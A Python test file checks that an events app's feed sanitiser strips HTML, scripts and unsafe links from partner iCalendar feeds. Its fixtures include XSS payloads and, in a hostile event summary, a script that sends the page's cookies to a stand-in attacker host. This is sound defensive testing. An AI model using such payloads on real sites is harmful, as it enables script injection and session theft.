"""A partner's feed can never put markup, scripts or odd links on our pages."""

import pytest

from events.imports.services.parsing import parse_feed
from events.imports.services.sanitise import plain_text, web_url


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("<b>Bold</b> &amp; <i>brave</i>", "Bold & brave"),
        ("Hi<script>alert(1)</script> there", "Hi there"),
        ('<img src=x onerror="alert(1)">Picture', "Picture"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;Escaped", "Escaped"),
        ("<style>p{}</style><p>One</p><p>Two</p>", "One\n\nTwo"),
        ("Line<br>break", "Line\nbreak"),
        ("Null\x00byte\x1b[31m and bidi \u202eevil", "Nullbyte[31m and bidi evil"),
        ("a < b and c > d", "a \u2039 b and c \u203a d"),
        ('<a href="javascript:alert(1)">Click</a>', "Click"),
    ],
)
def test_plain_text_keeps_only_text(value, expected):
    assert plain_text(value) == expected


def test_plain_text_caps_length_and_joins_lines():
    assert plain_text("word " * 100, max_length=20) == "word word word word\u2026"
    assert plain_text("one\n\ntwo", single_line=True) == "one two"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("https://example.org/a?b=c", "https://example.org/a?b=c"),
        ("HTTP://EXAMPLE.ORG/", "HTTP://EXAMPLE.ORG/"),
        ("javascript:alert(1)", ""),
        ("JaVaScRiPt:alert(1)", ""),
        ("data:text/html,<script>alert(1)</script>", ""),
        ("mailto:someone@example.org", ""),
        ("//example.org/no-scheme", ""),
        ('https://example.org/"><script>', ""),
        ("https://exa mple.org/", ""),
        ("ftp://example.org/file", ""),
        ("", ""),
    ],
)
def test_web_url_allows_only_http_links(value, expected):
    assert web_url(value) == expected


HOSTILE = b"""BEGIN:VCALENDAR\r
VERSION:2.0\r
PRODID:-//Hostile//EN\r
BEGIN:VEVENT\r
UID:hostile@example.org\r
DTSTART:20260901T100000Z\r
DTEND:20260901T110000Z\r
SUMMARY:<script>document.location='https://evil.example/'+document.cookie</script>Open d\r
 ay <img src=x onerror=alert(1)>\r
DESCRIPTION:<p>Welcome!</p><iframe src="https://evil.example"></iframe>Call Sam\r
  on 07700 900123 or sam@example.org. Address: 4 Hidden Way.\r
LOCATION:<b>Hall</b>\r
URL:javascript:alert(1)\r
X-ALT-DESC;FMTTYPE=text/html:<script>alert(2)</script>\r
END:VEVENT\r
END:VCALENDAR\r
"""


def test_hostile_event_is_plain_text_everywhere():
    event = parse_feed(HOSTILE, default_time_zone="Europe/London").events[0]
    assert event.summary == "Open day"
    assert event.location == "Hall"
    assert event.url == ""
    assert "<" not in event.description and "iframe" not in event.description
    assert event.description.startswith("Welcome!\nCall Sam on 07700 900123")


def test_outlook_alt_desc_is_used_only_as_text():
    data = HOSTILE.replace(b"DESCRIPTION:", b"X-OTHER:")
    event = parse_feed(data, default_time_zone="Europe/London").events[0]
    assert event.description == ""  # the HTML alternative held nothing but a script
